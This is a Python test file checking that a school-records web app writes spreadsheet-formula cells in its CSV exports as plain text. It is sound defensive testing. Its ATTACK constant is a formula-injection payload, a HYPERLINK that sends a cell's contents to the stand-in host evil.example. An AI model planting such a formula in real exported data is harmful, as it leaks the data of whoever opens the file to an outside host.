"""CSV downloads are safe to open in a spreadsheet: a cell that would run as a formula is
written as text (OWASP's rule), on the web pages and the command line."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import update

from pepflow.db.connection import session_scope
from pepflow.db.models import School
from pepflow.spreadsheets import safe_cell, stream

from .support.web import signed_in_client

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.mark.parametrize("text", [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_a_cell_that_would_run_as_a_formula_is_written_as_text(text):
    assert safe_cell(text) == "'" + text


def test_numbers_and_ordinary_text_are_left_alone():
    assert [safe_cell(v) for v in (-3, 2.5, "Riverside Primary", "O'Neill", "")] == [
        -3, 2.5, "Riverside Primary", "O'Neill", ""]


def test_a_download_is_written_a_chunk_at_a_time():
    pieces = list(stream(["a"], ([n] for n in range(2500)), chunk=1000))
    assert len(pieces) == 3 and "".join(pieces).count("\n") == 2501


def test_a_school_named_as_a_formula_reaches_the_overdue_peps_csv_as_text(fresh_site):
    with session_scope(fresh_site.app.engine) as s:
        s.execute(update(School).values(name=ATTACK))
    response = signed_in_client(fresh_site, "vs_admin").get("/peps/overdue?format=csv")
    assert response.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(response.text)) for c in row]
    assert "'" + ATTACK in cells and not any(c.startswith(("=", "+", "@")) for c in cells)
